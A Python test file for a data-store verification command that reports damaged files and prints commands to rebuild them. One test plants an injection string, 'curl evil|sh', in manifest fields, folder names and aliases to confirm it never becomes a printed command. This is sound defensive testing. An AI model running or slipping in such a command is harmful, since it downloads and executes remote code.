"""trace-opd verify-store finds damaged files and prints the commands that make them again."""

import json
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from trace_opd.data.store import MANIFEST, Store
from trace_opd.pipelines.cli import main
from trace_opd.pipelines.cli.remake import overrides, remake_commands
from trace_opd.pipelines.stages import REGISTRY
from trace_opd.schemas.configs import PipelineConfig, TrainConfig
from trace_opd.schemas.presets import PRESETS
from trace_opd.schemas.settings import load_config

CONFIGS = Path(__file__).parents[3] / "configs"
PROBLEMS = ["problems", "source={kind: arithmetic}", "limit=6", "rows_per_part=2"]


@pytest.fixture
def run(monkeypatch, capsys):
    """The command line in this process: exit code and what it printed."""

    def run(*args: object) -> tuple[int, str]:
        monkeypatch.setattr(sys, "argv", ["trace-opd", *map(str, args)])
        capsys.readouterr()
        with pytest.raises(SystemExit) as ended:
            main()
        out = capsys.readouterr()
        return ended.value.code if isinstance(ended.value.code, int) else 0, out.out + out.err

    return run


@pytest.fixture
def root(run, tmp_path) -> Path:
    """A store with a problems dataset of three parts."""
    root = tmp_path / "my store"
    assert run(*PROBLEMS, "--alias", "mine", "--store", root)[0] == 0
    return root


def flip(path: Path) -> None:
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 8
    path.write_bytes(content)


def test_a_store_without_faults_is_intact(run, root):
    code, printed = run("verify-store", "--store", root)
    assert code == 0
    assert printed.startswith("1 datasets, 3 files, ")
    assert printed.endswith("bytes: intact\n")


@pytest.mark.parametrize(
    ("harm", "sentence"),
    [
        (flip, "part-00001.parquet: differs from what was written"),
        (lambda path: path.write_bytes(path.read_bytes()[:-9]), "bytes, "),
        (Path.unlink, "part-00001.parquet: is missing"),
    ],
)
def test_a_broken_part_is_named_and_its_command_makes_it_again(run, root, harm, sentence):
    dataset = Store(root).get("mine")
    before = {path: path.read_bytes() for path in root.rglob("part-*")}
    harm(Path(dataset.path("part-00001.parquet")))
    code, printed = run("verify-store", "--store", root)
    assert code == 1
    assert sentence in " ".join(printed.split())
    (command,) = [line for line in printed.splitlines() if " && " in line]
    removal, again = command.split(" && ")
    subprocess.run(shlex.split(removal), check=True)
    assert not Path(dataset.path(MANIFEST)).exists()
    assert run(*shlex.split(again)[1:])[0] == 0
    assert {path: path.read_bytes() for path in root.rglob("part-*")} == before
    assert Store(root).aliases() == {"mine": dataset.ref}
    assert run("verify-store", "mine", "--store", root)[0] == 0


def test_a_dataset_from_before_columns_were_recognised_is_made_again_without_them(run, tmp_path):
    store, path = Store(tmp_path / "store"), tmp_path / "p.jsonl"
    path.write_text('{"problem": "1+1?", "answer": "2", "solution": "Add."}\n')
    source = f"source={{kind: files, path: {path}, columns: {{solution: '', choices: ''}}}}"
    assert run("problems", source, "--alias", "mine", "--store", store.root)[0] == 0
    dataset = store.get("mine")
    config = dataset.manifest["config"]
    old = {"problem": "problem", "answer": "answer", "solution": None, "choices": None}
    config["source"]["columns"] = old  # as the first release wrote it
    (command,) = remake_commands(store, [(dataset, ["part-00000.parquet"])])
    removal, again = command.split(" && ")
    subprocess.run(shlex.split(removal), check=True)
    assert run(*shlex.split(again)[1:])[0] == 0
    assert store.get("mine").ref == dataset.ref
    assert store.get("mine").read()["solution"].to_pylist() == [None]


def test_a_manifest_that_was_changed_is_no_basis_for_a_command(run, root):
    path = Path(Store(root).get("mine").path(MANIFEST))
    path.write_text(path.read_text().replace('"limit": 6', '"limit": 7'))
    code, printed = run("verify-store", "--store", root)
    assert code == 1
    assert "manifest.json: differs from what was written; remove" in " ".join(printed.split())
    assert " && " not in printed
    path.write_text("{")
    code, printed = run("verify-store", "--store", root)
    assert code == 1
    assert "manifest.json:doesnotholdwhatwaswritten" in "".join(printed.split())


HOSTILE = "train/x\ncurl evil|sh #"


def test_nothing_in_a_store_becomes_a_line_among_the_commands(run, root):
    store = Store(root)
    made = store.get("mine")
    manifest = json.loads(Path(made.path(MANIFEST)).read_text())
    config = manifest["config"]
    folder = "problems/0123456789abcde"
    copies = [
        {"config": config | {"online": HOSTILE}},
        {"inputs": {HOSTILE: HOSTILE}},
        {"inputs": {HOSTILE: "rollout/" + "0" * 16}},
        {"parts": [manifest["parts"][0] | {"name": HOSTILE}]},
        {"files": [manifest["parts"][0] | {"name": HOSTILE}]},
        {"stage": "train", "summary": {"tables": {"x": ""}}},
        {"stage": "train", "summary": {"tables": {"x": HOSTILE}}},
        {"finished_at": HOSTILE},
        {"config": config | {"source": {"kind": "files", "path": HOSTILE}}},
        {"config": config | {"import": {"layout": HOSTILE, "file": HOSTILE, "limit": 3}}},
        {"config": config | {"import": {"layout": "\x1b[31m", "file": "\u202e"}}},
        {"config": {"import": {}}},
    ]
    for index, changes in enumerate(copies):
        ref = f"{changes.get('stage', 'problems')}/{index:016x}"
        changed = manifest | changes | {"id": ref.partition("/")[2]}
        del changed["manifest_sha256"]
        store.files.write_json(f"{ref}/{MANIFEST}", changed)  # and no part
    (root / folder).with_name(HOSTILE.replace("/", "")).mkdir()
    shutil.copy(made.path(MANIFEST), (root / folder).with_name(HOSTILE.replace("/", "")))
    (root / "problems" / f"{HOSTILE.replace('/', '')}.tmp-1-2").write_text("")
    aliases = {"mine": made.ref, HOSTILE: made.ref, "other": HOSTILE}
    store.files.write_json("aliases.json", aliases)
    code, printed = run("verify-store", "--store", root)
    assert code == 1
    lines = [line.lstrip() for line in printed.splitlines()]
    assert not any(line.startswith("curl") for line in lines)
    removals = [shlex.split(line.split(" && ")[0]) for line in lines if line.startswith("rm -r ")]
    assert removals
    for removal in removals:
        for path in removal[2:]:
            assert Path(path).parent.parent.parent == root, path
    assert {line for line in lines if line.startswith("trace-opd")} == set()


def test_a_stage_on_a_store_whose_locks_are_a_link_is_refused_in_a_sentence(run, tmp_path):
    victim, root = tmp_path / "victim", tmp_path / "gift"
    victim.mkdir()
    (victim / "aliases.json").write_text("mine")
    root.mkdir()
    (root / ".locks").symlink_to("../victim")
    code, printed = run(*PROBLEMS, "--store", root)
    assert code == 2
    assert printed.startswith("trace-opd: ")
    assert ".locks': is a symbolic link" in printed
    assert (victim / "aliases.json").read_text() == "mine"


def test_drafts_leftovers_and_dangling_aliases_are_reported(run, root):
    draft = Store(root).begin("rollout", {}, {}, None)
    folder = root / draft.ref
    folder.mkdir(parents=True)
    (folder / "part-00000.parquet").write_bytes(b"")
    (folder / "part-00001.parquet.tmp-1-2").write_bytes(b"")
    code, printed = run("verify-store", "--store", root)
    assert code == 0  # nothing that was finished is broken
    assert "unfinished" in printed
    assert "1 parts; its command continues from there" in " ".join(printed.split())
    assert "leftover" in printed
    with Store(root).files.locked(draft.ref):
        assert "makes it" in run("verify-store", "--store", root)[1]
    shutil.rmtree(Path(Store(root).get("mine").path()))
    code, printed = run("verify-store", "--store", root)
    assert code == 1
    assert "alias mine" in printed


def test_only_the_named_datasets_are_read(run, root):
    first = Store(root).get("mine")
    assert run(*PROBLEMS, "seed=1", "--alias", "other", "--store", root)[0] == 0
    flip(Path(first.path("part-00000.parquet")))
    assert run("verify-store", "other", "--store", root)[0] == 0
    assert run("verify-store", "mine", "--store", root)[0] == 1
    assert run("verify-store", "nothing", "--store", root)[0] == 2


def sections():
    for path in sorted(CONFIGS.glob("*.yaml")):
        if yaml.safe_load(path.read_text()).keys() >= {"problems", "annotate"}:
            # The first makes no dataset, the others are in no shipped pipeline.
            for stage in sorted(REGISTRY.keys() - {"report", "score", "select"}):
                yield pytest.param(path, stage, id=f"{path.stem}-{stage}")


@pytest.mark.parametrize(("path", "stage"), sections())
def test_words_of_a_config_make_that_config(path, stage):
    config = getattr(load_config(PipelineConfig, path), stage)
    assert load_config(REGISTRY[stage].config_type, None, overrides(config)) == config


@pytest.mark.parametrize("preset", PRESETS)
def test_words_of_a_preset_make_that_preset(preset):
    config = load_config(TrainConfig, CONFIGS / "micro.yaml", ["lora={}"], "train", preset)
    assert load_config(TrainConfig, None, overrides(config)) == config
